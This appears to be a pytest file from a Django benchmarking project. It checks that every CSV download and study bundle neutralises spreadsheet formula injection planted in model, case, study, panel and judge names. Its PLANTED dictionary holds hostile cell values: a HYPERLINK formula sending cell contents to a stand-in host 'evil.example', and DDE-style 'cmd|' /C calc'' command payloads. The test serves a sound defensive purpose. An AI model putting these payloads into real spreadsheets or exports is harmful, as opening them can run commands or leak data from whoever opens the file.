"""Every CSV the pages serve, and the study bundle, with formula-leading text planted in every
untrusted field that reaches them (issue 34, finding 9): model names; the case ids,
categories, difficulties and attributes of an imported suite or case set; the study's, the
panel's and the judges' names. Each cell of each file must be defused
(patientagentbench/csv_safe.py), and each planted field must reach some file, so the scan
cannot pass by reading nothing."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse

from annotation import dashboards
from annotation.dashboards import LIVE_PAGES, Filters, PlanRequest
from jury.models import Judge, Panel
from patientagentbench.csv_safe import _PLAIN_NUMBER, FORMULA_STARTS
from patientagentbench.models import ModelConfig
from patientagentbench.results.study import run_analysis
from patientagentbench.suites.case_sets import create_case_set
from tests.annotation.test_dashboards import scored_pilot
from tests.finished_runs import simulated_run

pytestmark = pytest.mark.django_db

# Each formula start (=, +, -, @, tab, CR), each with a marker of its own: pages reword some
# values (an attribute's "\r=M6" is shown as "=M6"), so a field is found by its marker.
PLANTED = {
    "model": '=HYPERLINK("http://evil.example/?"&A1,"M1")',
    "other model": "@SUM(1+1)*cmd|' /C calc'!M2",
    "case id": "+cmd|' /C calc'!M3",
    "category": "-2+3+cmd|' /C calc'!M4",
    "difficulty": "\t=M5",
    "attribute": "\r=M6",
    "study": "=M7()",
    "panel": "@M8()",
    "judge": "=M9()",
}
MARKERS = {kind: re.search(r"M\d", text).group() for kind, text in PLANTED.items()}


def is_defused(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS) or bool(_PLAIN_NUMBER.fullmatch(cell))


def plant_in_tasks(suite) -> None:
    """Every text field of every task, as an imported suite or case set can carry it."""
    for n, task in enumerate(suite.tasks.order_by("pk")):
        task.task_id = f"{PLANTED['case id']}{n}"
        task.category = PLANTED["category"] + ("" if n % 2 else " b")
        task.difficulty = PLANTED["difficulty"] + ("" if n % 3 else " c")
        task.attributes = {key: PLANTED["attribute"] + str(n % 2) for key in task.attributes}
        task.save()


@pytest.fixture
def hostile_world(researcher, office_suite):
    models = [
        ModelConfig.objects.create(name=PLANTED[kind], provider="simulated", model_id=model_id)
        for kind, model_id in (("model", "sim-steady"), ("other model", "sim-jittery"))
    ]
    cases = create_case_set("formula-cases", 6, seed=3)
    plant_in_tasks(cases)
    plant_in_tasks(office_suite)
    pilot = scored_pilot(simulated_run(suite=cases, models=models, max_turns=6), researcher)
    pilot["study"].name = PLANTED["study"]
    pilot["study"].save(update_fields=["name"])
    Panel.objects.filter(pk=pilot["panel"].pk).update(name=PLANTED["panel"])
    for n, judge in enumerate(pilot["panel"].judges.order_by("pk")):
        Judge.objects.filter(pk=judge.pk).update(name=f"{PLANTED['judge']}{n}")
    # The run report's tables (per model, category, difficulty, task) need a suite with
    # expected tools and repetitions: office-19, three of each.
    pilot["office run"] = simulated_run(suite=office_suite, models=models, repetitions=3)
    return pilot


def dashboard_tables(page: str, query: dict) -> list[str]:
    if page == "planner":
        return list(dashboards.plan_data(PlanRequest.from_query(query))["tables"])
    if page == "corrected":
        return list(dashboards.corrected_data(Filters.from_query(query))["tables"])
    return list(dashboards.page_data(page, Filters.from_query(query))["tables"])


def served_csvs(client, world) -> dict[str, str]:
    """Every CSV a researcher can download about this world, by where it came from."""
    run, study = world["office run"], world["study"]
    files = {}
    for name in run_analysis(run)["tables"]:
        url = reverse("report_table_csv", args=[run.pk, name])
        files[url] = client.get(url).content.decode()
    assert files, "the run report served no table"
    export = reverse("research_study_export", args=[study.pk])
    for query in ("", "?versions=all"):
        files[export + query] = client.get(export + query).content.decode()
    attribute = next(iter(study.items.first().trace.task.attributes))
    by = ("", "judge", "panel", "attr:category", f"attr:{attribute}")
    queries = [(page, {"study": study.pk, "breakdown": b}) for page in LIVE_PAGES for b in by]
    queries += [("corrected", {"study": study.pk})]
    queries += [("planner", {"pilot": study.pk, "items": "40..60", "overlaps": "2..3"})]
    for page, query in queries:
        query = {key: str(value) for key, value in query.items()}
        for name in dashboard_tables(page, query):
            url = reverse("research_dashboard_table", args=[page, name])
            response = client.get(url, query)
            assert response.status_code == 200, (url, query)
            files[f"{url}?{'&'.join(f'{k}={v}' for k, v in query.items())}"] = (
                response.content.decode()
            )
    bundle = client.get(reverse("research_study_bundle", args=[study.pk])).content
    with zipfile.ZipFile(io.BytesIO(bundle)) as archive:
        for member in archive.namelist():
            if member.endswith(".csv"):
                files[f"bundle:{member}"] = archive.read(member).decode()
    return files


@pytest.mark.slow  # ~60 s: two runs, every dashboard under five breakdowns, the bundle
def test_every_served_csv_defuses_every_planted_formula(client, researcher, hostile_world):
    client.force_login(researcher)
    files = served_csvs(client, hostile_world)
    assert any(url.startswith("bundle:tables/") for url in files)
    cells = [
        (url, cell)
        for url, text in files.items()
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
    ]
    assert [(url, cell) for url, cell in cells if not is_defused(cell)] == []
    reached = {
        kind: sorted({url for url, cell in cells if marker in cell})
        for kind, marker in MARKERS.items()
    }
    assert all(reached.values()), f"never reached a CSV: {[k for k, v in reached.items() if not v]}"
